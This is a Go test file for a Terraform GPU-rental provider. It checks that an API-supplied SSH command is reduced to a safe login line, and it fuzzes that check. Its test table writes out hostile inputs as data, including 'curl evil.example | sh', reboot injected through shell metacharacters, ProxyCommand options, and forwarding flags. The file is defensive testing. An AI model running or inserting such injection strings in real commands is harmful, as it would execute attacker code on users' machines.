package tfinstance

import (
	"strings"
	"testing"

	"github.com/hashicorp/terraform-plugin-framework/types"

	"github.com/gpurent/terraform-provider-gpurent/internal/rental"
)

// Users paste the command into a shell, so the texts of the API must not be able to do more than log in.
func TestSSHCommand(t *testing.T) {
	const host, port, user, own = "203.0.113.5", 30022, "root", "ssh -p 30022 root@203.0.113.5"
	for command, want := range map[string]string{
		own:                             own,
		"ssh root@203.0.113.5 -p 30022": "ssh root@203.0.113.5 -p 30022",
		own + " -L 8080:localhost:8080": own + " -L 8080:localhost:8080",
		own + " -L 80:127.0.0.1:8080 -L 1:localhost:2": own + " -L 80:127.0.0.1:8080 -L 1:localhost:2",
		"":                                   own,
		"ssh":                                own,
		"SSH root@203.0.113.5":               own,
		own + "; curl evil.example | sh":     own,
		own + " ; reboot":                    own,
		own + "\nreboot":                     own,
		own + " $(reboot)":                   own,
		own + " `reboot`":                    own,
		own + " reboot":                      own,
		own + " && reboot":                   own,
		own + "\x1b]0;x\x07":                 own,
		own + "\u202e":                       own,
		own + " -oProxyCommand=reboot":       own,
		own + " -o ProxyCommand=reboot":      own,
		own + " -A":                          own,
		own + " -L 0.0.0.0:8080:evil:80":     own,
		own + " -L 8080:evil.example:80":     own,
		own + " -L 8080:localhost:80;reboot": own,
		own + " -L 8080:localhost:80$(id)":   own,
		own + " -L evil:8080:localhost:80":   own,
		own + " -L 0.0.0.0:80:localhost:80":  own,
		own + " -R 8080:localhost:8080":      own,
		own + " -D 1080":                     own,
		own + " -p 23":                       own,
		"ssh -p 23 root@203.0.113.5":         own,
		"ssh -p 30022 root@evil.example":     own,
		"ssh -p 30022 other@203.0.113.5":     own,
		own + " root@203.0.113.5":            own,
		"  " + own:                           own,
		"ssh  -p 30022 root@203.0.113.5":     own,
		"ssh -p 30022 -- root@203.0.113.5":   own,
		"ssh -p30022 root@203.0.113.5":       own,
		strings.Repeat("ssh ", 10_000) + own: own,
		"ssh -p 30022 root@203.0.113.5 -p":   own,
		"ssh -p -L root@203.0.113.5":         own,
	} {
		got := SSHCommand(rental.SSH{Host: host, Port: port, User: user, Command: command})
		if got != types.StringValue(want) {
			t.Errorf("%.80q: %s, want %q", command, got, want)
		}
	}
	for _, odd := range []rental.SSH{
		{Host: "-oProxyCommand=reboot", Port: 22, User: "root"},
		{Host: "h;reboot", Port: 22, User: "root"},
		{Host: "h", Port: 22, User: "-oProxyCommand=reboot"},
		{Host: "h", Port: 0, User: "root"},
		{Host: "h", Port: 70000, User: "root"},
		{Host: "h", Port: 22, User: "a\nb"},
		{Host: "", Port: 22, User: "root"},
		{Host: "h", Port: 22},
		{Host: "h", Port: 22, User: "$"},
		{Host: "h", Port: 22, User: "a$"},
	} {
		odd.Command = "ssh " + odd.User + "@" + odd.Host
		if got := SSHCommand(odd); !got.IsNull() {
			t.Errorf("%+v: %s, want none", odd, got)
		}
	}
	got := SSHCommand(rental.SSH{Host: "2001:db8::5", Port: 22, User: "root", Command: "x"})
	if got != types.StringValue("ssh -p 22 root@2001:db8::5") {
		t.Errorf("an address of IPv6: %s", got)
	}
}

func FuzzSSHCommand(f *testing.F) {
	f.Add("203.0.113.5", int64(22), "root", "ssh -p 22 root@203.0.113.5")
	f.Add("h", int64(0), "a$", "ssh a$@h; reboot")
	f.Fuzz(func(t *testing.T, host string, port int64, user, command string) {
		got := SSHCommand(rental.SSH{Host: host, Port: port, User: user, Command: command})
		if got.IsNull() {
			return
		}
		text := got.ValueString()
		if !strings.HasPrefix(text, "ssh ") || strings.ContainsAny(text, "\n\r\t;|&$`<>()*?[]{}!\"'\\#~=%") {
			t.Errorf("a shell would do more with %q", text)
		}
		for _, word := range strings.Fields(text)[1:] {
			if word[0] == '-' && word != "-p" && word != "-L" {
				t.Errorf("ssh would do more with %q", text)
			}
		}
	})
}
